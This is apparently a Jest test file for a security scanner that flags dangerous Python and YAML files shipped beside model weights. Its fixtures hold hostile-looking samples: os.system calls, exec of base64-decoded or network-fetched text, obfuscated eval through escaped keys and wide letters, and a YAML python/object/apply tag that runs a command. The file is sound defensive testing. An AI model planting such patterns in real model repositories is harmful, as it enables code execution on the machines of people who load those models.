// Python beside weights: what a static look at it tells, and which of it the rules of this tree speak of.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from '@jest/globals'
import { glancePython } from '../../../../agent/read/scan/python-glance.ts'
import { findYamlObjects } from '../../../../agent/read/scan/yaml-objects.ts'
import { buildSafetensors } from '../../../build-safetensors.ts'
import { inspectFile } from '../open-candidate.ts'
import { judgeFile } from './judge-file.ts'

function told(source: string, isProse = false): readonly string[] {
  return glancePython(source, { isProse }).uses.map(({ how, name, inner }) => `${how} ${[name, ...inner].join(' < ')}`)
}

describe('glancePython', () => {
  it.each([
    ['other names', "import os as o\no.system('id')", ['import os', 'call os.system']],
    [
      'names of a module',
      "from os import (system as s,\n popen)\ns('x'); popen('y')",
      ['import os', 'call os.system', 'call os.popen'],
    ],
    ['a module by its name', "__import__('os').system('id')", ['call __import__', 'call os.system']],
    ['a variable', "f = eval\nf('1')", ['call eval']],
    [
      'what a variable was made of',
      'import base64\nx = base64.b64decode(s)\nexec(x)',
      ['import base64', 'call base64.b64decode', 'call exec < base64.b64decode'],
    ],
    [
      'calls inside',
      'import zlib\nexec(zlib.decompress(b))',
      ['import zlib', 'call zlib.decompress', 'call exec < zlib.decompress'],
    ],
    ['keys', "__builtins__['ev\\x61l']('x')", ['call eval']],
    ['wide letters', "ｅｘｅｃ('x')", ['call exec']],
    ['a function handed on', 'import os\nrun(os.system)', ['import os', 'use os.system']],
    ['comments and texts', "# os.system('x')\n'''eval(1)'''", []],
    ['methods', 'model.eval()\nself.compile(x)', []],
    ['a relative import', 'from .modeling import exec_all\nexec_all()', []],
  ])('sees %s', (_, source, uses) => expect(told(source)).toEqual(uses))

  it('takes prose for prose', () => {
    expect(told('a model to evaluate (see eval (x)). import the model, then open the door', true)).toEqual([])
    expect(told("import os; os.system('id')", true)).toEqual(['call os.system'])
  })
  it('ends on anything', () => {
    for (const source of [
      '(((((('.repeat(10_000),
      '"'.repeat(9_999),
      'import ,,, from . import (',
      'from x import (a',
      "x['",
    ]) {
      expect(glancePython(source).uses.length).toBeLessThan(10)
    }
  })
})

describe('findYamlObjects', () => {
  it.each([
    ['a:\n  _target_: os.system', ['_target_ os.system']],
    ['{"_target_": "os.system"}', ['_target_ os.system']],
    ['- !!python/name:os.system', ['tag python/name:os.system']],
    ['a: !!str 5\nb: !!binary aGk=', []],
    ['target: cpu', []],
    ['# see target in the text\nname: x', []],
  ])('%j', (text, found) => expect(findYamlObjects(text).found.map(({ key, name }) => `${key} ${name}`)).toEqual(found))
})

const WEIGHTS = buildSafetensors({ tensors: [{ name: 'model.embed_tokens.weight', dtype: 'F32', shape: [8, 4] }] })
const CONFIG = {
  model_type: 'llama',
  architectures: ['LlamaForCausalLM'],
  hidden_size: 4,
  num_hidden_layers: 1,
  num_attention_heads: 1,
  vocab_size: 8,
}
const MODELING = `import math
from typing import Optional
import torch
from torch import nn
from transformers import PreTrainedModel
class Attention(nn.Module):
    def forward(self, x):
        return torch.nn.functional.softmax(x / math.sqrt(2), dim=-1)
`

async function folder(files: Readonly<Record<string, string>>, config: object = CONFIG) {
  const beside = Object.entries({ 'config.json': JSON.stringify(config), ...files }).map(
    ([name, text]) => [name, Buffer.from(text)] as const,
  )
  return judgeFile('model.safetensors', WEIGHTS, Object.fromEntries(beside))
}

describe('a model folder', () => {
  it('is clean without code', async () => expect(await folder({})).toMatchObject({ verdict: 'clean', threats: [] }))
  it('tells ordinary code, and stays clean', async () => {
    const judged = await folder(
      { 'modeling_x.py': MODELING },
      { ...CONFIG, auto_map: { AutoModel: 'modeling_x.Attention' } },
    )
    expect(judged).toMatchObject({ verdict: 'clean', threats: ['code-custom'] })
  })
  it('tells code of another repository', async () => {
    const judged = await folder({}, { ...CONFIG, auto_map: { AutoModel: 'someone/else--modeling_x.Model' } })
    expect(judged).toMatchObject({ verdict: 'clean', threats: ['code-of-another-repository'] })
  })
  it.each([
    ['os.system', "import os\nos.system('id')", 'code-runs-programs', 'suspicious'],
    ['a socket', "import socket as s\ns.create_connection(('h', 1))", 'code-opens-channels', 'suspicious'],
    ['requests', "import requests\nrequests.get('https://example.invalid')", 'code-touches-system', 'clean'],
    ['decoded text', "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", 'code-runs-decoded-text', 'malicious'],
    [
      'fetched text',
      "import urllib.request as r\nx = r.urlopen('https://example.invalid').read()\nexec(x)",
      'code-runs-decoded-text',
      'malicious',
    ],
    [
      'an encoded program',
      `P = '${Buffer.from("import os\nos.system('touch /tmp/nothing')").toString('base64')}'`,
      'code-carries-program',
      'malicious',
    ],
  ])('tells %s', async (_, source, threat, verdict) => {
    const judged = await folder({ 'modeling_x.py': source })
    expect(judged.verdict).toBe(verdict)
    expect(judged.threats).toContain(threat)
  })
  it('tells YAML that calls Python', async () => {
    expect(await folder({ 'extra.yaml': 'a: !!python/object/apply:os.system ["id"]\n' })).toMatchObject({
      verdict: 'malicious',
      threats: ['yaml-runs-python'],
    })
  })
  it('lists code with its digest', async () => {
    const path = mkdtempSync(join(tmpdir(), 'gnomon-code-'))
    try {
      for (const [name, text] of Object.entries({ 'config.json': JSON.stringify(CONFIG), 'modeling_x.py': MODELING }))
        writeFileSync(join(path, name), text)
      writeFileSync(join(path, 'model.safetensors'), WEIGHTS)
      const { parts } = await inspectFile(join(path, 'model.safetensors'))
      const code = parts.filter(({ role }) => role === 'code')
      expect(code).toHaveLength(1)
      expect(code[0]).toMatchObject({
        path: join(path, 'modeling_x.py'),
        sizeBytes: MODELING.length,
        sha256: expect.stringMatching(/^[0-9a-f]{64}$/),
      })
    } finally {
      rmSync(path, { recursive: true })
    }
  })
})
